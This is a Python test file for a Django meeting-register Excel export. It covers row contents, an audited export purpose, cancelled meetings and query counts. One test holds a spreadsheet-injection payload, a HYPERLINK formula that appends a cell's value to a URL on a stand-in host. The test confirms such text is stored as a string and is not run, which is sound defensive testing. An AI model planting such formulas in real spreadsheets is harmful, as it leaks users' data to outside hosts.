"""The register of a year's meetings is taken away with a purpose, and no text in it is a formula."""

from datetime import date
from io import BytesIO

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from branchlife.models import AuditEvent
from meetings.enums import MeetingState
from meetings.models import Meeting
from tests.held import hold
from tests.reviews.pages import MOST_QUERIES, queries
from tests.reviews.recording import at, put_on_calendar, write_down
from tests.world import World

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://a/?"&A3)'


def take(world: World, **typed: object) -> Worksheet:
    client = Client()
    client.force_login(world.secretary)
    with at():
        answer = client.post(url(world), {"year": "2026", "purpose": "年度检查"} | typed)
    assert answer.status_code == 200, answer.content
    assert "attachment" in answer["Content-Disposition"]
    return load_workbook(BytesIO(answer.content)).active  # type: ignore[return-value]


def url(world: World) -> str:
    return reverse("branch_register", args=[world.branch.pk])


def test_one_line_a_meeting_with_its_figures(world: World) -> None:
    meeting = put_on_calendar(world)
    write_down(world, meeting, (world.members[4], "出差"))
    hold(world.branch, "committee", date(2026, 3, 2), theme="三月支委会")
    hold(world.branch, "committee", date(2025, 12, 1), theme="上一年的")
    hold(world.small_branch, "general", date(2026, 3, 3), theme="别的支部的")
    sheet = take(world)
    rows = list(sheet.iter_rows(min_row=3, values_only=True))
    assert [row[6] for row in rows] == ["三月支委会", "廉政警示教育"]
    expected = meeting.attendances.count()
    assert rows[1][10:14] == (expected, expected - 1, 1, 0)
    assert [cell.value for cell in sheet[2]][:3] == ["序号", "日期", "开始时间"]


def test_the_purpose_is_asked_for_and_kept(world: World) -> None:
    client = Client()
    client.force_login(world.secretary)
    assert client.post(url(world), {"year": "2026", "purpose": " "}).status_code == 400
    assert not AuditEvent.objects.filter(action="register.export").exists()
    take(world, purpose="上级督查")
    event = AuditEvent.objects.get(action="register.export")
    assert (event.actor, event.difference) == (
        world.secretary, {"year": 2026, "purpose": "上级督查", "meetings": 0},
    )  # fmt: skip


def test_no_text_is_a_formula(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    """With the positive control: written as openpyxl would write it, it would be one."""
    hold(world.branch, "general", date(2026, 3, 2), theme=FORMULA)
    Meeting.objects.update(place="@SUM(A1)")
    texts = [cell for cell in take(world)[3] if cell.column in (7, 8)]
    assert [(cell.data_type, cell.value) for cell in texts] == [("s", FORMULA), ("s", "@SUM(A1)")]
    monkeypatch.setattr("meetings.documents.register.put", lambda cell, value: setattr(cell, "value", value))
    assert take(world).cell(3, 7).data_type == "f"


def test_what_is_cancelled_says_so(world: World) -> None:
    hold(world.branch, "general", date(2026, 3, 2), state=MeetingState.SCHEDULED, theme="取消的")
    Meeting.objects.update(state=MeetingState.CANCELLED)
    assert take(world).cell(3, 15).value == "已取消"


def test_it_costs_the_same_for_one_meeting_and_for_three(world: World) -> None:
    def asked() -> int:
        client = Client()
        client.force_login(world.secretary)
        with at(), CaptureQueriesContext(connection) as captured:
            assert client.post(url(world), {"year": "2026", "purpose": "年度检查"}).status_code == 200
        return len(captured)

    hold(world.branch, "general", date(2026, 3, 2))
    asked()  # the first event of a branch begins its chain
    one = asked()
    for day in (3, 4):
        hold(world.branch, "general", date(2026, 3, day))
    assert asked() == one
    assert queries(world.secretary, url(world)) <= MOST_QUERIES
